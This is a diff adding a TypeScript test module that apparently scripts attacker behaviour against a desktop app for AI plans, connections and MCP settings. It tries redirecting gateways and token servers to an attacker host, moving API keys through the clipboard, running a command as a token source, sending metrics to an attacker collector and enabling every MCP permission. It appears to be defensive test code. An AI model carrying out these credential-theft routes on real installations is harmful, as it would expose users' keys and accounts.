@@ -1,0 +1,182 @@
+import {
+  addressKeys,
+  ConnectionPart,
+  type ConnectionView,
+  McpPermission,
+  type MethodName,
+  type PlanView,
+} from '@shared/contract'
+import type { Wanted } from './hostile-calls'
+
+/** What the attacker puts on the clipboard in the place of a secret. */
+export const ownSecret = 'the-attackers-own-0123456789'
+
+export interface Answer {
+  readonly ok: boolean
+  readonly value?: unknown
+}
+
+/** What the ways are tried with. */
+export interface Attempt {
+  readonly call: (name: MethodName, input?: unknown) => Promise<Answer>
+  readonly wanted: Wanted
+}
+
+/** The ways that somebody would think of. */
+export async function knownWays(attempt: Attempt): Promise<void> {
+  await redirectPlans(attempt)
+  const evilId = await foreignConnection(attempt)
+  await redirectConnections(attempt)
+  await carryHeldSecret(attempt, evilId)
+  await runProgram(attempt)
+  await joinDatabase(attempt)
+  await sendMetrics(attempt)
+  await widenMcp(attempt)
+  const { call, wanted } = attempt
+  await call('connections.save', { name: 'reads-a-file', addresses: {}, caFile: wanted.file })
+  await call('app.openLink', { url: `${wanted.serverUrl}/?out` })
+  const [plan] = await listed<PlanView>(call, 'plans.list')
+  const choice = { toolId: 'claude-code', planId: plan?.id ?? '', modelCode: 'aurora-large' }
+  const site = { kind: 'project', folder: wanted.folder }
+  await call('tools.preview', { ...choice, site })
+  await call('tools.drift', { toolId: 'claude-code', site })
+  await call('doctor.run', { toolId: 'claude-code', site, callId: 'doctor' })
+}
+
+async function listed<T>(call: Attempt['call'], name: MethodName): Promise<T[]> {
+  const { value } = await call(name)
+  return Array.isArray(value) ? value : []
+}
+
+/** Another gateway for each plan; and its key by the clipboard. */
+async function redirectPlans({ call, wanted }: Attempt): Promise<void> {
+  const gatewayUrl = wanted.serverUrl
+  for (const { id: planId, name, models, keys } of await listed<PlanView>(call, 'plans.list')) {
+    await call('plans.update', { planId, name, gatewayUrl, models })
+    await call('plans.check', { planId })
+    for (const { id: keyId } of keys) {
+      await call('plans.copyKey', { planId, keyId })
+      for (const take of [
+        'plans.takeKeyFromClipboard',
+        'connections.takeSecretFromClipboard',
+        'resources.takeSecret',
+      ] as const) {
+        const pendingId = pendingIn(await call(take))
+        await call('plans.checkNew', { gatewayUrl, pendingId })
+        const added = await call('plans.add', { name: `copy-${take.length}`, gatewayUrl, models: [], pendingId })
+        await call('plans.check', { planId: idIn(added) })
+      }
+    }
+  }
+}
+
+const fieldOf = (answer: Answer, name: string): string => {
+  const { value } = answer
+  return typeof value === 'object' && value !== null ? String(Reflect.get(value, name) ?? 'none') : 'none'
+}
+const pendingIn = (answer: Answer): string => fieldOf(answer, 'pendingId')
+const idIn = (answer: Answer): string => fieldOf(answer, 'id')
+
+const everyAddress = (url: string): Record<string, string> =>
+  Object.fromEntries(addressKeys.map((key) => [key, key === 'registryHost' ? new URL(url).host : url]))
+
+/** A connection of the attacker's own: their addresses and their secret. */
+async function foreignConnection({ call, wanted }: Attempt): Promise<string> {
+  await call('app.copyText', { text: ownSecret })
+  const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
+  const addresses = everyAddress(wanted.serverUrl)
+  const saved = await call('connections.save', {
+    name: 'theirs',
+    addresses,
+    tokenSource: { kind: 'pasted' },
+    pendingId,
+  })
+  const connection: unknown = Reflect.get(Object(saved.value), 'connection')
+  return String(Reflect.get(Object(connection), 'id'))
+}
+
+/** Other addresses for each connection, with its secret, with another, and with another token server. */
+async function redirectConnections({ call, wanted }: Attempt): Promise<void> {
+  const addresses = everyAddress(wanted.serverUrl)
+  for (const { id, name, tokenSource } of await listed<ConnectionView>(call, 'connections.list')) {
+    if (name === 'theirs') continue
+    await call('app.copyText', { text: ownSecret })
+    const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', {}))
+    const moved =
+      tokenSource?.kind === 'client-credentials' ? { ...tokenSource, tokenUrl: wanted.serverUrl } : tokenSource
+    const changes = [
+      { addresses, tokenSource },
+      { addresses, tokenSource: moved },
+      { addresses, tokenSource, pendingId },
+    ]
+    for (const change of changes) {
+      await call('connections.save', { id, name, ...change })
+      for (const part of ConnectionPart.options) await call('connections.test', { id, part, callId: `${id}-${part}` })
+      await call('account.plans', { connectionId: id })
+    }
+  }
+}
+
+/** A secret of an answer, carried to the attacker's own connection. */
+async function carryHeldSecret({ call }: Attempt, connectionId: string): Promise<void> {
+  const lab = (await listed<ConnectionView>(call, 'connections.list')).find(({ name }) => name === 'Lab')
+  const operation = 'aip.apiKeys.create'
+  const made = await call('resources.call', { connectionId: lab?.id ?? '', operation, body: { name: 'stolen' } })
+  const secrets: unknown = Reflect.get(Object(made.value), 'secrets')
+  const [held]: unknown[] = Array.isArray(secrets) ? secrets : []
+  const handle = String(Reflect.get(Object(held), 'handle'))
+  await call('resources.call', { connectionId, operation, body: { name: { $held: handle } } })
+  await call('resources.useForInference', { connectionId, of: { handle } })
+  await call('resources.keepSecret', { handle, connectionId, kind: 'platformApiKey', name: 'carried' })
+  await call('resources.copySecret', { handle })
+  const pendingId = pendingIn(await call('resources.takeSecret'))
+  await call('resources.call', { connectionId, operation, body: { name: { $pending: pendingId } } })
+  await call('playground.keepApiKey', { connectionId, pendingId })
+  const target = { kind: 'platform', connectionId, credential: 'apiKey', modelCode: 'm' }
+  await call('playground.complete', { target, prompt: 'hello', parameters: {} })
+}
+
+/** A program for the tokens of a connection. */
+async function runProgram({ call, wanted }: Attempt): Promise<void> {
+  const tokenSource = { kind: 'command', command: wanted.command }
+  const addresses = everyAddress(wanted.serverUrl)
+  await call('connections.save', { name: 'runs', addresses, tokenSource })
+  for (const { id } of await listed<ConnectionView>(call, 'connections.list')) {
+    await call('connections.save', { id, name: `runs-${id.slice(0, 8)}`, addresses, tokenSource })
+    await call('connections.test', { id, part: 'token', callId: `run-${id}` })
+  }
+}
+
+/** Each key of a plan, as the password of a database of the attacker. */
+async function joinDatabase({ call, wanted }: Attempt): Promise<void> {
+  for (const { id: planId, keys } of await listed<PlanView>(call, 'plans.list')) {
+    for (const { id: keyId } of keys) {
+      await call('plans.copyKey', { planId, keyId })
+      const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
+      const names = { spaceName: 'theirs', personName: 'me', address: wanted.databaseUrl }
+      await call('team.create', { ...names, pendingId })
+    }
+  }
+  await call('app.copyText', { text: ownSecret })
+  const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
+  await call('team.create', { spaceName: 'ours', personName: 'me', address: wanted.databaseUrl, pendingId })
+}
+
+/** A collector of the attacker for the figures of every request. */
+async function sendMetrics({ call, wanted }: Attempt): Promise<void> {
+  await call('metrics.setOtlp', { endpoint: wanted.serverUrl, sendsSpans: true })
+  await call('app.copyText', { text: ownSecret })
+  const pendingId = pendingIn(await call('metrics.takeSecret'))
+  await call('metrics.setOtlp', {
+    ...{ endpoint: `${wanted.serverUrl}/theirs`, auth: { kind: 'bearer' }, sendsSpans: true, pendingId },
+  })
+}
+
+/** What costs and writes of the MCP server, and a server of one tool for another one with its values. */
+async function widenMcp({ call }: Attempt): Promise<void> {
+  for (const permission of McpPermission.options)
+    await call('mcp.setPermission', { toolId: 'claude-code', permission, isOn: true })
+  const change = { what: 'anyServer', toolId: 'claude-code', name: 'lab', action: 'copy', to: ['cursor'] }
+  const preview = await call('mcp.preview', { ...change, values: 'plain' })
+  await call('mcp.carryOut', { previewId: fieldOf(preview, 'previewId') })
+}
